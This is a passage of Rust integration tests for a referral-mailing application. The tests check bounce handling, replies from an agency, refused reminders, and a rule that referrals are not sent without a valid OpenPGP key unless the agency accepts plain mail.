        let bounce = format!("Return-Path: <>\r\nFrom: MAILER-DAEMON@mx.example\r\nTo: {to}\r\nSubject: Undelivered\r\n\
            Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\n\r\nSorry.\r\n--b\r\n\
            Content-Type: message/delivery-status\r\n\r\nFinal-Recipient: rfc822; intake@police.example\r\nAction: failed\r\n\
            Status: 5.1.1\r\n\r\n--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: {id}\r\n--b--\r\n");
        assert_eq!(w.on_thread(bounce.as_bytes()).await.sort, Sort::Bounce);
        let whole = w.whole(&reference).await;
        assert_eq!(whole.standing.referrals[0].state, State::Sent);
        let bounced = whole.referral_mails(no).1.iter().filter(|one| one.bounced_at.is_some()).count();
        assert_eq!(bounced, 1);
        // The answer comes on its thread, and then there is nothing to ask.
        let answer = police.out(&TO_US, b"Content-Type: text/plain\r\n\r\nWe have it as P-2.\r\n");
        let head = format!("From: intake@police.example\nTo: {to}\nIn-Reply-To: {id}\nMessage-ID: <2@police.example>");
        assert_eq!(w.on_thread(&encrypted(&head, &answer)).await.sort, Sort::Other);
        let version = w.whole(&reference).await.standing.version;
        let answered = Work::Answer(cairn_desk::referral::Outcome::Resolved, None);
        w.app.work_referral(&w.officer, place, version, answered).await.unwrap();
        let shown = w.app.referral(&w.officer, &reference, no).await.unwrap();
        assert!(w.app.reminder(&shown.whole, &shown.record).await.is_none());
        let version = shown.whole.standing.version;
        let late = w.app.work_referral(&w.officer, place, version, Work::Remind).await;
        assert!(matches!(late, Err(AppError::Refused(_))), "{late:?}");
        assert_eq!(findings(t).await, Vec::<String>::new());
    }

    async fn without_a_key_no_package_leaves_unless_the_agency_takes_plain_mail(t: &mut TestStore) {
        let Some(server) = MailServer::start() else { return };
        let mail = "mail = \"intake@police.example\"";
        let old = Gpg::with_key("Police <intake@police.example>", "seconds=1");
        std::thread::sleep(std::time::Duration::from_millis(1500));
        let over = format!("{mail}\nopenpgp = \"\"\"\n{}\"\"\"", String::from_utf8(old.public()).unwrap());
        for (more, why) in [("", MailRefusal::NoAddress), (mail, MailRefusal::NoKey), (over.as_str(), MailRefusal::BadKey)] {
            let w = World::with_police(t, &server.address.to_string(), more).await;
            assert_eq!(w.app.agency_mail("police").await.unwrap_err(), why);
            let (reference, no) = w.referred(false).await;
            assert!(matches!(w.send_referral(&reference, no).await, Err(AppError::Input(_))));
            assert_eq!(w.run().await, 0);
        }
        let plain = format!("{mail}\nplain_mail = true");
        let w = World::with_police(t, &server.address.to_string(), &plain).await;
        let (reference, no) = w.referred(false).await;
        w.send_referral(&reference, no).await.unwrap();
        assert_eq!(w.run().await, 1);
        let sent = server.messages().remove(0);
        assert!(sent.contains("multipart/signed") && sent.contains(&reference), "{sent}");
        // What was taken back, or is no longer agreed to, does not leave.
        let (reference, no) = w.referred(false).await;
        w.send_referral(&reference, no).await.unwrap();
        let version = w.whole(&reference).await.standing.version;
        w.app.undo(&w.officer, &reference, version, version).await.unwrap();
        assert_eq!(w.run().await, 1, "the job finds nothing to do");
        assert_eq!(server.messages().len(), 1);
        assert_eq!(findings(t).await, Vec::<String>::new());
    }
}
